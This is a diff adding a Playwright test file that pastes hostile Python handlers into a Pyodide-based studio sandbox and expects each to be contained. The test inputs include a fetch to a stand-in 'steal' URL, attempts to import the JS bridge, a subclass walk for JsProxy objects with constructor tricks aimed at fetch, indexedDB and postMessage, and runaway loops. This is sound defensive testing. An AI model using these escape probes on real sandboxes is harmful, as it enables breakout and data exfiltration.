@@ -1,0 +1,110 @@
+import { expect, test } from '../fixtures';
+import type { StudioPage } from '../pages/studio-page';
+
+// Hostile handlers pasted into the studio as a user would, in Chromium: each is contained with a
+// clear message, and a normal run works right after. (The full list runs in Node:
+// packages/runtime/src/sandbox/hostile.test.ts.) The fixture also fails any test whose page asked
+// anything of another origin.
+
+const handler = (imports: string, ...body: string[]) =>
+  `from jit.commons.utils.logger import log\n${imports}\n\ndef handleOrderApproval(eventOutData):\n${body
+    .map((line) => `    ${line}`)
+    .join('\n')}\n`;
+
+async function runsNormallyAfterwards(studio: StudioPage): Promise<void> {
+  await studio.replaceCode(handler('', 'log.info("a normal run works")'));
+  await studio.run();
+  await expect(studio.runResult.getByRole('list', { name: 'Logs' })).toContainText('a normal run works');
+}
+
+test.describe('the sandbox holds against hostile handlers', () => {
+  test.beforeEach(async ({ studio }) => {
+    await studio.selectEvent(/Order Approval Event/);
+  });
+
+  test('`import js` to fetch is refused', async ({ studio }) => {
+    await studio.replaceCode(handler('import js', 'js.fetch("https://example.com/steal")'));
+    await studio.run();
+    await expect(studio.runResult.getByText(/ModuleNotFoundError: No module named 'js'/)).toBeVisible();
+    await runsNormallyAfterwards(studio);
+  });
+
+  test('every import route to the JS bridge gives nothing', async ({ studio }) => {
+    await studio.replaceCode(
+      handler(
+        'import importlib, sys, _imp\nfrom importlib.machinery import ModuleSpec',
+        'tries = {',
+        '    "pyodide": lambda: importlib.import_module("pyodide.ffi"),',
+        '    "__import__": lambda: __import__("pyodide_js"),',
+        '    "core": lambda: _imp.create_builtin(ModuleSpec("_pyodide_core", None, origin="built-in")),',
+        '    "sys.modules": lambda: sys.modules["js"],',
+        '}',
+        'for name, route in tries.items():',
+        '    try:',
+        '        route()',
+        '        log.info("%s: OPEN", name)',
+        '    except Exception as e:',
+        '        log.info("%s: %s", name, type(e).__name__)',
+      ),
+    );
+    await studio.run();
+    const logs = studio.runResult.getByRole('list', { name: 'Logs' });
+    await expect(logs).toContainText('pyodide: ModuleNotFoundError');
+    await expect(logs).toContainText('__import__: ModuleNotFoundError');
+    await expect(logs).toContainText('core: ModuleNotFoundError');
+    await expect(logs).toContainText('sys.modules: KeyError');
+    await expect(logs).not.toContainText('OPEN');
+    await runsNormallyAfterwards(studio);
+  });
+
+  test('JS objects Python can reach lead to no fetch, storage or postMessage', async ({ studio }) => {
+    // Pyodide's own modules keep JS functions in their globals; the worker is the boundary.
+    await studio.replaceCode(
+      handler(
+        '',
+        'seen, proxies, escaped, todo = set(), [], [], [object]',
+        'while todo:',
+        '    for s in type.__subclasses__(todo.pop()):',
+        '        if s not in seen: seen.add(s); todo.append(s)',
+        'for c in seen:',
+        '    for v in list(vars(c).values()):',
+        '        for x in list(getattr(v, "__globals__", {}).values()):',
+        '            if type(x).__name__.startswith("JsProxy") or "JsCallable" in type(x).__name__: proxies.append(x)',
+        'for p in proxies:',
+        '    for route in (lambda: p.constructor("return fetch")(), lambda: p.constructor.constructor("return indexedDB")(),',
+        '                  lambda: p.call.constructor("return postMessage")()):',
+        '        try: escaped.append(repr(route()))',
+        '        except Exception: pass',
+        'log.info("reachable JS objects: %s; escapes: %s", len(proxies) > 0, escaped)',
+      ),
+    );
+    await studio.run();
+    await expect(studio.runResult.getByRole('list', { name: 'Logs' })).toContainText(
+      'reachable JS objects: True; escapes: []',
+    );
+    await runsNormallyAfterwards(studio);
+  });
+
+  test('`while True: pass` stops on Stop, and the editor stays responsive meanwhile', async ({ studio, page }) => {
+    await studio.replaceCode(handler('', 'while True:', '    pass'));
+    await studio.testPanel.getByRole('button', { name: 'Run', exact: true }).click();
+    const stop = studio.testPanel.getByRole('button', { name: 'Stop' });
+    await expect(stop).toBeVisible();
+    // Typing into Monaco while Python spins in its worker.
+    await studio.editor().click();
+    await page.keyboard.press('ControlOrMeta+End');
+    await page.keyboard.type('\n# still typing');
+    await expect(studio.editor()).toContainText('# still typing');
+    await stop.click();
+    await expect(studio.runResult.getByText(/Timeout: stopped after \d+(\.\d)? s/)).toBeVisible();
+    await runsNormallyAfterwards(studio);
+  });
+
+  test('a long C-level call is stopped by the time limit and the standby takes over', async ({ studio }) => {
+    await studio.replaceCode(handler('', 'return sum(range(10**12))'));
+    await studio.testPanel.getByRole('button', { name: 'Run', exact: true }).click();
+    // The default limit is 5 s; an interrupt cannot stop C code, so the worker is terminated.
+    await expect(studio.runResult.getByText('Timeout: stopped after 5 s')).toBeVisible({ timeout: 20_000 });
+    await runsNormallyAfterwards(studio);
+  });
+});
